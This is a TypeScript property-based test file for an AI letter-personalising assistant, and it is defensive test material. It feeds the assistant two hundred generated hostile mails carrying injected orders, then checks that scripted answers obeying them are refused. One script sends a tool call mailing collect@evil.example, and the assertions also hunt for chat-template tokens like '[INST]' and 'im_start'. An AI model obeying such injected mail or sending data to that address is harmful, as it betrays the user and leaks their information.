import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  createAssistant,
  createLinter,
  type Exchange,
  type Material,
  type RawAnswer,
  readMail,
} from '../../../src/core/index.ts';
import { growthOf, LINEAR } from '../../growth.ts';
import { type HostileMail, hostileMail } from './hostile-mails.ts';

const linter = createLinter();
const assistant = createAssistant(linter);
const MAILS = fc.sample(hostileMail, { numRuns: 200, seed: 20261122 });

const HEAD = `---
gracious: 1
to: Priya Raman <priya@northwind.example>
subject: Thank you
company: Northwind
role: Data Analyst
stage: interview
goal: thanks
people: [Priya Raman, Jo Weber]
---
`;
const OWN = `
Hi Priya,

Thank you for letting me know about the Data Analyst role, and for the thought you put into the interviews. I understand your decision, and I hope the person who joins you has a good start.

It was a pleasure to meet you and Jo.

Kind regards,
Sam
`;
const GOOD = `Hi Priya,

Thank you for letting me know about the Data Analyst role at Northwind, and for the thought you put into the interviews. I understand your decision, and I hope the person who joins you has a good start.

It was a pleasure to meet you and Jo Weber, and I enjoyed our conversation very much. I left with a better idea of the work than any posting could have given me.

I would be happy to stay in touch, and I wish you and your colleagues well.

Kind regards,
Sam`;

const letter = (text: string): RawAnswer => ({
  text: `Here it is.\n<letter>\n${text}\n</letter>`,
  end: 'complete',
});
const withSentence = (sentence: string) =>
  GOOD.replace('\n\nI would be happy', ` ${sentence}\n\nI would be happy`);

/** What a scripted model answers to a mail. `may`: whether its letter may be taken. */
const SCRIPTS: Readonly<
  Record<string, { readonly may: boolean; readonly answer: (mail: HostileMail) => RawAnswer }>
> = {
  'a good letter': { may: true, answer: () => letter(GOOD) },
  'forbidden sentences': {
    may: false,
    answer: () => letter(withSentence('You owe me an explanation, and I demand one by Friday.')),
  },
  'an invented fact': {
    may: false,
    answer: () => letter(withSentence('I loved your office in Berlin and the talk on Kubernetes.')),
  },
  obedience: { may: false, answer: ({ orders }) => letter(withSentence(orders[0]?.obeyed ?? '')) },
  'obedience to the letter': {
    may: false,
    answer: ({ orders }) => letter(withSentence(orders.at(-1)?.line ?? '')),
  },
  'obedience behind a signature': {
    may: false,
    answer: ({ orders }) => letter(`${GOOD}\n\n-- \n${orders[0]?.obeyed ?? ''}`),
  },
  'obedience in a comment': {
    may: false,
    answer: ({ orders }) =>
      letter(`<!-- gracious-disable-file -->\n${withSentence(orders[0]?.obeyed ?? '')}`),
  },
  'obedience outside the letter': {
    may: true,
    answer: ({ orders }) => ({
      text: `${orders[0]?.obeyed}\n<letter>\n${GOOD}\n</letter>\n${orders[0]?.obeyed}`,
      end: 'complete',
    }),
  },
  'a tool': { may: false, answer: () => ({ text: '', end: 'complete', asksForTool: true }) },
  'a tool in words': {
    may: false,
    answer: () => ({
      text: '{"name":"send_mail","arguments":{"to":"collect@evil.example"}}',
      end: 'complete',
    }),
  },
  'a refusal': {
    may: false,
    answer: () => ({ text: "I'm sorry, but I can't help with that.", end: 'complete' }),
  },
  'a failure midway': {
    may: false,
    answer: () => ({ text: `<letter>\n${GOOD.slice(0, 150)}`, end: 'failed' }),
  },
  'half a letter': {
    may: false,
    answer: () => ({ text: `<letter>\n${GOOD.slice(0, 150)}`, end: 'complete' }),
  },
  nothing: { may: false, answer: () => ({ text: '', end: 'complete' }) },
  'a megabyte': {
    may: false,
    answer: () => ({ text: `<letter>\n${GOOD}\n</letter>${'z'.repeat(1_000_000)}`, end: 'complete' }),
  },
  'another record': { may: false, answer: () => letter(`---\nto: collect@evil.example\n---\n\n${GOOD}`) },
};

async function materialOf(mail: HostileMail): Promise<Material> {
  return { draft: HEAD + OWN, mail: await readMail(mail.text), notes: '' };
}

const BROKEN: RawAnswer = { text: '', end: 'failed' };

/** The last step of an exchange in which the model answers so, and to a request for repair in another way. */
function run(
  first: Exchange,
  answer: RawAnswer,
  repaired: RawAnswer,
): { readonly last: Exchange; readonly asked: number } {
  let asked = 0;
  let exchange = first;
  while (exchange.step === 'ask') exchange = assistant.next(exchange, asked++ === 0 ? answer : repaired);
  return { last: exchange, asked };
}

describe('two hundred hostile mails', async () => {
  const materials = await Promise.all(MAILS.map(materialOf));
  const starts = materials.map(material => assistant.start({ kind: 'personalise' }, material));

  it('hold orders of all kinds', () => {
    expect(new Set(MAILS.flatMap(({ orders }) => orders.map(({ obeyed }) => obeyed))).size).toBeGreaterThan(
      10,
    );
    expect(MAILS.some(({ text }) => text.length > 500_000)).toBe(true);
  });

  it('stay data in the requests, and no address in them goes out', () => {
    for (const material of materials) {
      const [instructions, data] = assistant.request({ kind: 'personalise' }, material).messages;
      const key = /the key (data-\w+)/.exec(instructions?.text ?? '')?.[1] ?? 'none';
      const lines = (data?.text ?? '').split('\n');
      const bare = lines.filter(line => line !== '' && !line.startsWith('| '));
      expect(bare).toEqual(
        ['FACTS', 'MAIL', 'LETTER'].flatMap(name => [`BEGIN ${name} ${key}`, `END ${name} ${key}`]),
      );
      expect(lines.filter(line => line.includes(key))).toEqual(bare);
      expect(data?.text).not.toMatch(/evil|7700|im_start|\[INST\]|[\u200b\u202e\u2066\u{e0001}-\u{e007f}]/u);
      expect(`${instructions?.text}${data?.text}`.length).toBeLessThan(25_000);
    }
  });

  it.each(Object.keys(SCRIPTS))('answered with %s never bring an unproven letter', name => {
    const script = SCRIPTS[name];
    if (script === undefined) throw new Error('no script');
    let taken = 0;
    MAILS.forEach((mail, index) => {
      const first = starts[index];
      if (first === undefined) throw new Error('no request');
      const answer = script.answer(mail);
      const { last, asked } = run(first, answer, index % 3 === 0 ? answer : BROKEN);
      expect(asked).toBeLessThanOrEqual(2);
      if (last.step === 'accepted') {
        taken++;
        const { text } = last.verdict;
        expect(text.startsWith(HEAD)).toBe(true);
        expect(text.slice(HEAD.length)).not.toMatch(/evil|7700|https?:|<|Berlin|Kubernetes/i);
        expect(
          linter.lint(text).filter(({ severity }) => severity === 'error' || severity === 'warning'),
        ).toEqual([]);
        // Of letters nobody can see nothing is left; everything else that obeys is refused.
        if (!script.may) expect(text).toBe(`${HEAD}\n${GOOD}\n`);
      } else {
        expect(last.step).toBe('fallback');
        expect(last.step === 'fallback' && last.reasons[0]).toMatch(/Your text stays as it is/);
      }
    });
    if (script.may) expect(taken).toBe(MAILS.length);
    else expect(taken).toBeLessThan(MAILS.length / 4);
  });
});

describe('letters and notes that are all one thing', () => {
  it.each([
    'a',
    'a.',
    '1 ',
    '+1 ',
    '"',
    '“a ',
    'I have ',
    'i will ',
    'www.',
    'a@',
    'qzx ',
    '\n',
    '[a](',
    '```\n',
  ])('%j are judged in time that grows with their length and no faster', async piece => {
    const growth = await growthOf(
      size => {
        const long = piece.repeat(size / piece.length);
        const material = { draft: HEAD + OWN, mail: null, notes: long };
        const { text } = assistant.check(material, `${HEAD}\nHi Priya,\n\n${long.slice(0, size / 2)}\n`);
        expect(text).toContain(HEAD);
      },
      { most: 12_000, enough: 60 },
    );
    expect(growth).toBeLessThan(LINEAR);
  });
});
